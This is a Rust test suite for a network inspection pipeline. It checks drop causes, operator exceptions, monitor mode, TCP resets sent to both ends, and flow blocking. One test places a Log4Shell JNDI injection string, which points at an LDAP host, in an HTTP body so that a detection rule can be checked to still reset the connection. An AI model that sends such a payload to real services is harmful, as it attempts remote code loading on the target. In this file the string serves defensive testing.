//! What becomes of a frame, told from outside: every cause that an operator may except, every action of a rule, the
//! resets that both ends get, and what is blocked stays so.

use std::net::IpAddr;
use std::sync::{Arc, OnceLock};

use dataplane::decode::{
    Checksum, ChecksumMode, LinkType, Packet, TcpFlags, TcpHeader, Transport, checksum, decode, protocol,
};
use dataplane::event::{Event, EventSink};
use dataplane::flow::Direction;
use dataplane::limits::{HELD_SEGMENTS_PER_STREAM_MAX, HITS_PER_PACKET_MAX};
use dataplane::pipeline::{Pipeline, RxMeta, Side};
use dataplane::policy::{Exception, Exceptions, Mode, Scope, Settings, TcpPolicy, Urgent};
use dataplane::verdict::{DropReason, Verdict};
use dlp_patterns::{Pack, RuleSet, default_packs};
use engine::sample::frame::{self, Tcp};
use engine::sample::{Connection, Ends};

use Direction::{ToClient, ToServer};

const DATA: u8 = TcpFlags::PSH | TcpFlags::ACK;
const ALERT: u32 = 1;
const RESET: u32 = 3;
const LOG4SHELL: u32 = 1_000_201;
/// Rules that alert on a word of their own, more than a packet lists hits.
const FLOOD_RULES: usize = HITS_PER_PACKET_MAX + 36;

/// The default packs, and one rule for each action; the last one has many candidates alive at once.
fn rules() -> Arc<RuleSet> {
    static RULES: OnceLock<Arc<RuleSet>> = OnceLock::new();
    let compile = || {
        let rules = [
            ("alert", "alertword", "alertword"),
            ("drop", "dropword", "dropword"),
            ("reset", "resetword", "resetword"),
            ("alert", "qz.{300,340}zq", "none"),
        ];
        let rules = rules.map(|(action, regex, example)| (action, regex.to_owned(), example.to_owned()));
        let flood =
            (0..FLOOD_RULES).map(|n| format!("floodword{n:03}")).map(|word| ("alert", word.clone(), word));
        let mut text = "[pack]\nname = 'own'\nversion = '1'\ndescription = 'd'\n".to_owned();
        for (id, (action, regex, example)) in (1..).zip(rules.into_iter().chain(flood)) {
            text += &format!(
                "[[rule]]\nid = {id}\nname = 'n'\naction = '{action}'\nseverity = 1\ncategory = 'c'\nmask = 'none'\n\
                 fields = ['payload', 'http.request.body', 'http.response.body']\nregex = '{regex}'\n\
                 examples = {{ positive = ['{example}'], negative = ['y'] }}\n"
            );
        }
        let mut packs = default_packs();
        packs.push(Pack::parse("own.toml", &text).expect("the pack is right"));
        Arc::new(RuleSet::compile(&packs).expect("the packs compile"))
    };
    Arc::clone(RULES.get_or_init(compile))
}

/// Rules that alerted and reasons of drops that were told.
#[derive(Default)]
struct Told {
    alerts: Vec<(u32, bool)>,
    drops: Vec<(DropReason, bool)>,
}

impl EventSink for Told {
    fn emit(&mut self, event: Event<'_>) {
        match event {
            Event::Alert(alert) => self.alerts.push((alert.rule.id(), alert.blocked)),
            Event::Drop(dropped) => self.drops.push((dropped.reason, dropped.reset)),
            _ => {}
        }
    }
}

/// A pipeline, and the time that it was told.
struct Bench {
    pipeline: Pipeline,
    told: Told,
    now_ns: u64,
}

impl Bench {
    fn new(settings: Settings) -> Bench {
        Bench { pipeline: Pipeline::new(settings, rules()), told: Told::default(), now_ns: 0 }
    }

    fn judge(&mut self, frame: &[u8]) -> Verdict {
        self.judge_from(None, frame)
    }

    fn judge_from(&mut self, side: Option<Side>, frame: &[u8]) -> Verdict {
        let meta = self.next_meta(side, frame);
        let verdict = self.pipeline.process(&mut frame.to_vec(), meta, &mut self.told);
        let counters = self.pipeline.counters();
        assert!(counters.is_balanced());
        verdict
    }

    /// What the pipeline says to a frame that another one should judge.
    fn refuse_unowned(&mut self, frame: &[u8]) -> Verdict {
        let meta = self.next_meta(None, frame);
        self.pipeline.refuse_unowned(&mut frame.to_vec(), meta, &mut self.told)
    }

    fn next_meta(&mut self, side: Option<Side>, frame: &[u8]) -> RxMeta {
        self.now_ns += 1000;
        let wire_bytes = frame.len() as u32;
        RxMeta { now_ns: self.now_ns, link: 0, link_type: LinkType::Ethernet, side, wire_bytes }
    }

    fn passes(&mut self, frames: &[Vec<u8>]) {
        frames.iter().for_each(|frame| assert_eq!(self.judge(frame), Verdict::Forward));
    }
}

fn settings() -> Settings {
    Settings { flows_max: 1024, ..Settings::default() }
}

fn ends(client: &str, server: &str, vlans: &[u16]) -> Ends {
    let address = |text: &str| text.parse().expect("it is an address");
    Ends::new(address(client), address(server), vlans)
}

fn connection() -> Connection {
    Connection::new(ends("10.0.0.1:40000", "192.0.2.1:80", &[]), [1000, 0xffff_fff0])
}

fn syn(client: &str) -> Vec<u8> {
    Connection::new(ends(client, "192.0.2.1:80", &[]), [1, 2]).handshake().swap_remove(0)
}

fn upload(codings: &str, body: &str) -> Vec<u8> {
    let head = format!("POST / HTTP/1.1\r\nContent-Encoding: {codings}\r\nContent-Length: {}", body.len());
    format!("{head}\r\n\r\n{body}").into_bytes()
}

/// Frames that pass, and one that a cause speaks against.
struct Case {
    settings: Settings,
    before: Vec<Vec<u8>>,
    guilty: Vec<u8>,
    closed: Verdict,
    /// Where the others come from, and the guilty one.
    sides: [Option<Side>; 2],
}

impl Case {
    /// The verdict on the guilty frame.
    fn judge(&self, bench: &mut Bench) -> Verdict {
        for frame in &self.before {
            assert_eq!(bench.judge_from(self.sides[0], frame), Verdict::Forward);
        }
        if self.closed == Verdict::Drop(DropReason::OwnerBehind) {
            return bench.refuse_unowned(&self.guilty);
        }
        bench.judge_from(self.sides[1], &self.guilty)
    }
}

/// A segment behind one that is lost.
fn behind_hole(connection: &mut Connection) -> Vec<u8> {
    connection.segment(ToServer, DATA, b"GET / HTT");
    connection.segment(ToServer, DATA, b"P/1.1\r\n")
}

fn case(cause: DropReason) -> Case {
    let mut connection = connection();
    let mut settings = settings();
    let mut before = connection.handshake();
    let is_content = Exceptions::scope(cause) == Scope::Content;
    let closed = if is_content { Verdict::Reset(cause) } else { Verdict::Drop(cause) };
    let mut sides = [None; 2];
    let guilty = match cause {
        DropReason::Malformed => connection.segment(ToServer, DATA, b"cut off")[..50].to_vec(),
        DropReason::BadChecksum => {
            let mut frame = connection.segment(ToServer, DATA, b"flipped");
            *frame.last_mut().expect("it is not empty") ^= 0x10;
            frame
        }
        DropReason::Fragment => first_fragment(),
        DropReason::FlowTableFull => {
            settings.flows_max = 1;
            syn("10.0.0.2:1")
        }
        DropReason::ReassemblyMemory => {
            settings.held_bytes_max = 0;
            behind_hole(&mut connection)
        }
        DropReason::ReassemblyStream => {
            before.extend((0..HELD_SEGMENTS_PER_STREAM_MAX).map(|_| behind_hole(&mut connection)));
            behind_hole(&mut connection)
        }
        DropReason::OutOfWindow => {
            let sequence = connection.sequence(ToServer).wrapping_add(1 << 30);
            let tcp = Tcp { sequence, acknowledgment: connection.sequence(ToClient), flags: DATA };
            ends("10.0.0.1:40000", "192.0.2.1:80", &[]).frame(ToServer, tcp, b"far away")
        }
        DropReason::AppError => {
            let twice = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab";
            connection.segment(ToServer, DATA, twice)
        }
        DropReason::ContentCap => connection.segment(ToServer, DATA, &upload(&"gzip, ".repeat(5), "body")),
        DropReason::ContentUnread | DropReason::AppMemory => {
            settings.app_bytes_max = if cause == DropReason::AppMemory { 0 } else { 1 << 20 };
            settings.exceptions.set(cause, Exception::Reject);
            connection.segment(ToServer, DATA, &upload("gzip", "body"))
        }
        DropReason::ScanOverflow => connection.segment(ToServer, DATA, &upload("", &"qz".repeat(160))),
        DropReason::BudgetExceeded => {
            settings.packet_steps_max = 100;
            connection.segment(ToServer, DATA, &upload("", &"qz".repeat(30)).repeat(2))
        }
        DropReason::OwnerBehind => connection.segment(ToServer, TcpFlags::ACK, b""),
        DropReason::OverlapUnverified => {
            settings.retained_bytes_max = 0;
            before.push(connection.segment(ToServer, DATA, b"GET / HTTP/1.1\r\n"));
            before[3].clone()
        }
        DropReason::StaleTimestamp => {
            before = before[..2].iter().map(|frame| with_timestamp(frame, 50)).collect();
            with_timestamp(&connection.segment(ToServer, DATA, b"GET / HTTP/1.1\r\n"), 49)
        }
        DropReason::Midstream => {
            settings.exceptions.set(cause, Exception::DropPacket);
            std::mem::take(&mut before).swap_remove(2)
        }
        DropReason::WrongSide => {
            before.truncate(1);
            sides = [Some(Side::Inside), Some(Side::Outside)];
            connection.segment(ToServer, TcpFlags::ACK, b"")
        }
        other => panic!("{other:?} is no cause to except"),
    };
    Case { settings, before, guilty, closed, sides }
}

/// A frame of TCP over IPv4 without options, with the timestamps option (RFC 7323 §3.2).
fn with_timestamp(frame: &[u8], value: u32) -> Vec<u8> {
    let mut frame = frame.to_vec();
    let option = [&[1, 1, 8, 10][..], &value.to_be_bytes(), &[0; 4]].concat();
    frame.splice(54..54, option);
    frame[46] += 3 << 4;
    let total_bytes = (frame.len() - 14) as u16;
    frame[16..18].copy_from_slice(&total_bytes.to_be_bytes());
    checksum::seal_ipv4(&mut frame[14..34]);
    frame[50..52].fill(0);
    let pseudo = checksum::sum(&frame[26..34]) + u64::from(protocol::TCP) + (frame.len() - 34) as u64;
    let sum = !checksum::fold(pseudo + checksum::sum(&frame[34..]));
    frame[50..52].copy_from_slice(&sum.to_be_bytes());
    frame
}

/// A fragment of a UDP datagram of which more follow, though its length is odd (RFC 791 §3.2).
fn first_fragment() -> Vec<u8> {
    let ends = ["10.0.0.1:5000", "192.0.2.1:53"].map(|text| text.parse().expect("it is an address"));
    let mut frame = frame::udp(ends, &[], b"a piece of a datagram");
    frame[20] = 0x20;
    checksum::seal_ipv4(&mut frame[14..34]);
    frame
}

/// But for those that speak against several frames at once: `fragments.rs`.
#[test]
fn each_cause_drops_or_forwards_as_the_operator_says() {
    for cause in Exceptions::causes().filter(|cause| !cause.as_str().starts_with("fragment_")) {
        let case = case(cause);
        let (settings, closed) = (case.settings.clone(), case.closed);
        let mut bench = Bench::new(settings.clone());
        assert_eq!(case.judge(&mut bench), closed, "{cause:?} fails closed");
        assert_eq!(bench.pipeline.counters().dropped[cause as usize], 1);
        assert_eq!(bench.pipeline.counters().dropped_total(), 1);
        assert_eq!(bench.told.drops, [(cause, closed == Verdict::Reset(cause))]);

        let mut exceptions = Exceptions::default();
        exceptions.set(cause, Exception::Ignore);
        for open in [
            Settings { exceptions, ..settings.clone() },
            Settings { mode: Mode::Monitor, ..settings.clone() },
        ] {
            let mut bench = Bench::new(open);
            assert_eq!(case.judge(&mut bench), Verdict::Forward, "{cause:?} fails open");
            assert_eq!(bench.pipeline.counters().dropped_total(), 0);
            assert_eq!(bench.pipeline.counters().excepted[cause as usize], 1, "{cause:?} is counted");
            assert!(bench.told.drops.is_empty());
        }

        // An exception for the others helps nobody here.
        let mut exceptions = settings.exceptions;
        for other in Exceptions::causes().filter(|other| *other != cause) {
            exceptions.set(other, Exception::Ignore);
        }
        let mut bench = Bench::new(Settings { exceptions, ..settings });
        assert_eq!(case.judge(&mut bench), closed, "{cause:?} is a cause of its own");
    }
}

/// RFC 6093 §4: with its mark cleared, urgent data has one reading; the operator may want none at all.
#[test]
fn urgent_data_is_read_in_line_or_dropped() {
    let urgent = |connection: &mut Connection| {
        connection.segment(ToServer, DATA | TcpFlags::URG, b"GET / HTTP/1.1\r\n")
    };
    for (policy, verdict) in
        [(Urgent::Inline, Verdict::Forward), (Urgent::Drop, Verdict::Drop(DropReason::Urgent))]
    {
        let tcp = TcpPolicy { urgent: policy, ..TcpPolicy::default() };
        let (mut bench, mut connection) = (Bench::new(Settings { tcp, ..settings() }), connection());
        bench.passes(&connection.handshake());
        assert_eq!(bench.judge(&urgent(&mut connection)), verdict);
        assert_eq!(bench.pipeline.counters().urgent_cleared, u64::from(verdict == Verdict::Forward));
    }
}

#[test]
fn monitoring_reads_behind_a_conflict_and_changes_nothing() {
    let mut bench = Bench::new(Settings { mode: Mode::Monitor, ..settings() });
    let mut connection = connection();
    bench.passes(&connection.handshake());
    let (sequence, acknowledgment) = (connection.sequence(ToServer), connection.sequence(ToClient));
    bench.passes(&[connection.segment(ToServer, DATA, b"\x01alert")]);
    let tcp = Tcp { sequence, acknowledgment, flags: DATA };
    let sent = ends("10.0.0.1:40000", "192.0.2.1:80", &[]).frame(ToServer, tcp, b"\x01other alertword");
    let (mut frame, meta) = (sent.clone(), bench.next_meta(None, &sent));
    assert_eq!(bench.pipeline.process(&mut frame, meta, &mut bench.told), Verdict::Forward);
    assert_eq!((frame, &bench.told.alerts[..]), (sent, &[(ALERT, false)][..]));
    assert_eq!(bench.pipeline.counters().overlaps_rewritten, 0);
}

#[test]
fn connections_whose_begin_was_not_seen_are_inspected_unless_told_otherwise() {
    let (mut bench, mut connection) = (Bench::new(settings()), connection());
    bench.passes(&[connection.segment(ToServer, DATA, b"\x01harmless ")]);
    assert_eq!(bench.pipeline.counters().excepted[DropReason::Midstream as usize], 1);
    bench.passes(&[connection.segment(ToClient, TcpFlags::ACK, b"")]);
    assert_eq!(
        bench.judge(&connection.segment(ToServer, DATA, b"resetword")),
        Verdict::Reset(DropReason::Rule)
    );
}

/// What a frame of the pipeline's own says, its checksums verified.
fn decoded(frame: &[u8]) -> (Packet<'_>, TcpHeader) {
    let packet = decode(frame, frame.len() as u32, LinkType::Ethernet, ChecksumMode::Verify);
    let packet = packet.expect("a reset is well-formed");
    assert_eq!(packet.checksum, Checksum::Valid);
    assert!(packet.payload.is_empty());
    let Transport::Tcp(header) = packet.transport else { panic!("a reset is TCP") };
    assert_eq!(header.flags.0, TcpFlags::RST | TcpFlags::ACK);
    (packet, header)
}

fn addresses(packet: &Packet<'_>) -> (IpAddr, IpAddr) {
    let network = packet.network.expect("a reset is IP");
    assert_eq!(network.protocol, protocol::TCP);
    (network.source, network.destination)
}

/// RFC 9293 §3.5.2: a reset is believed where its number is exactly what is expected next (RFC 5961 §3).
#[test]
fn both_ends_are_reset_with_the_numbers_that_they_expect() {
    for (client, server, vlans) in [
        ("10.0.0.1:40000", "192.0.2.1:80", &[][..]),
        ("10.0.0.1:40000", "192.0.2.1:80", &[7]),
        ("10.0.0.1:40000", "192.0.2.1:80", &[7, 4094]),
        ("[fd00::1]:40000", "[2001:db8::1]:80", &[]),
        ("[fd00::1]:40000", "[2001:db8::1]:80", &[9]),
    ] {
        for guilty in [ToServer, ToClient] {
            let mut connection = Connection::new(ends(client, server, vlans), [0xffff_ffff, 0xffff_ff80]);
            let mut bench = Bench::new(settings());
            bench.passes(&connection.handshake());
            bench.passes(&[connection.segment(ToServer, DATA, &upload("", "harmless"))]);
            if guilty == ToClient {
                let head = b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n";
                bench.passes(&[connection.segment(ToClient, DATA, head)]);
            }
            let payload = if guilty == ToServer { upload("", "resetword") } else { b"resetword".to_vec() };
            let (at, answer) = (connection.sequence(guilty), connection.sequence(guilty.opposite()));
            let frame = connection.segment(guilty, DATA, &payload);
            assert_eq!(bench.judge(&frame), Verdict::Reset(DropReason::Rule));
            assert_eq!(bench.told.alerts, [(RESET, true)]);

            let resets = bench.pipeline.resets();
            let to_receiver = resets.to_receiver().expect("the receiver is reset");
            let to_sender = resets.to_sender().expect("the sender is reset");
            let (offending, (forth, forth_tcp)) = (decode_any(&frame), decoded(to_receiver));
            let (back, back_tcp) = decoded(to_sender);
            let (source, destination) = addresses(&offending);
            assert_eq!(addresses(&forth), (source, destination));
            assert_eq!(addresses(&back), (destination, source));
            assert_eq!((&forth.vlans.ids()[..], &back.vlans.ids()[..]), (vlans, vlans));
            assert_eq!(to_receiver[..12], frame[..12]);
            assert_eq!((&to_sender[..6], &to_sender[6..12]), (&frame[6..12], &frame[..6]));
            let ports = if guilty == ToServer { (40_000, 80) } else { (80, 40_000) };
            assert_eq!((forth_tcp.source, forth_tcp.destination), ports);
            assert_eq!((back_tcp.destination, back_tcp.source), ports);
            assert_eq!((forth_tcp.sequence, forth_tcp.acknowledgment), (at, answer));
            let end = at.wrapping_add(payload.len() as u32);
            assert_eq!((back_tcp.sequence, back_tcp.acknowledgment), (answer, end));
        }
    }
}

fn decode_any(frame: &[u8]) -> Packet<'_> {
    decode(frame, frame.len() as u32, LinkType::Ethernet, ChecksumMode::Verify).expect("it is well-formed")
}

#[test]
fn what_is_blocked_stays_so_in_both_directions() {
    for (word, first) in
        [("dropword", Verdict::Drop(DropReason::Rule)), ("resetword", Verdict::Reset(DropReason::Rule))]
    {
        let mut connection = connection();
        let mut bench = Bench::new(settings());
        bench.passes(&connection.handshake());
        let guilty = connection.segment(ToServer, DATA, &upload("", word));
        assert_eq!(bench.judge(&guilty), first);
        assert_eq!(bench.pipeline.resets().to_sender().is_some(), matches!(first, Verdict::Reset(_)));
        let blocked = Verdict::Drop(DropReason::FlowBlocked);
        for frame in [
            guilty,
            connection.segment(ToServer, DATA, b"harmless"),
            connection.segment(ToClient, TcpFlags::ACK, b""),
            connection.segment(ToClient, DATA, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
            connection.segment(ToServer, TcpFlags::FIN | TcpFlags::ACK, b""),
        ] {
            assert_eq!(bench.judge(&frame), blocked, "behind {word}");
            assert!(bench.pipeline.resets().to_sender().is_none(), "ends are reset once");
        }
        assert_eq!(bench.told.drops.len(), 2, "each reason is told once a flow");
        bench.passes(&Connection::new(ends("10.0.0.1:40001", "192.0.2.1:80", &[]), [1, 2]).handshake());
    }
}

#[test]
fn ends_that_were_reset_may_connect_anew() {
    let mut bench = Bench::new(settings());
    let mut first = connection();
    bench.passes(&first.handshake());
    assert_eq!(
        bench.judge(&first.segment(ToServer, DATA, &upload("", "resetword"))),
        Verdict::Reset(DropReason::Rule)
    );
    let mut again = Connection::new(ends("10.0.0.1:40000", "192.0.2.1:80", &[]), [77_000, 88_000]);
    bench.passes(&again.handshake());
    bench.passes(&[again.segment(ToServer, DATA, &upload("", "harmless"))]);
    assert_eq!(
        bench.judge(&again.segment(ToServer, DATA, &upload("", "dropword"))),
        Verdict::Drop(DropReason::Rule)
    );
}

#[test]
fn a_flood_of_alerts_hides_no_reset() {
    let mut connection = connection();
    let mut bench = Bench::new(settings());
    bench.passes(&connection.handshake());
    // A rule hits a field once, so it takes as many rules as alerts.
    let words: String = (0..FLOOD_RULES).map(|n| format!("floodword{n:03} ")).collect();
    let body = words + "${jndi:ldap://203.0.113.7/a}";
    let frame = connection.segment(ToServer, DATA, &upload("", &body));
    assert_eq!(bench.judge(&frame), Verdict::Reset(DropReason::Rule));
    assert_eq!(bench.told.alerts.len(), HITS_PER_PACKET_MAX);
    assert!(bench.told.alerts.contains(&(LOG4SHELL, true)), "what decides is told");
    let counters = bench.pipeline.counters();
    assert_eq!(counters.alerts + counters.hits_unlisted, FLOOD_RULES as u64 + 1);
}

#[test]
fn an_alert_lets_pass_and_monitoring_lets_everything_pass() {
    for (mode, word, id) in [
        (Mode::Protect, "alertword", ALERT),
        (Mode::Monitor, "alertword", ALERT),
        (Mode::Monitor, "resetword", RESET),
    ] {
        let mut connection = connection();
        let mut bench = Bench::new(Settings { mode, ..settings() });
        bench.passes(&connection.handshake());
        bench.passes(&[connection.segment(ToServer, DATA, &upload("", word))]);
        assert!(
            bench.pipeline.resets().to_sender().is_none() && bench.pipeline.resets().to_receiver().is_none()
        );
        bench.passes(&[connection.segment(ToServer, DATA, &upload("", "harmless"))]);
        assert_eq!(bench.told.alerts, [(id, false)]);
        assert!(bench.told.drops.is_empty());
    }
}

#[test]
fn a_datagram_cannot_be_reset_and_is_dropped() {
    let ends = ["10.0.0.1:5000", "192.0.2.1:5001"].map(|text| text.parse().expect("it is an address"));
    let mut bench = Bench::new(settings());
    bench.passes(&[frame::udp(ends, &[], b"harmless")]);
    assert_eq!(bench.judge(&frame::udp(ends, &[], b"a resetword")), Verdict::Drop(DropReason::Rule));
    assert!(bench.pipeline.resets().to_sender().is_none() && bench.pipeline.resets().to_receiver().is_none());
    let [client, server] = ends;
    let answer = frame::udp([server, client], &[], b"harmless");
    assert_eq!(bench.judge(&answer), Verdict::Drop(DropReason::FlowBlocked));
}
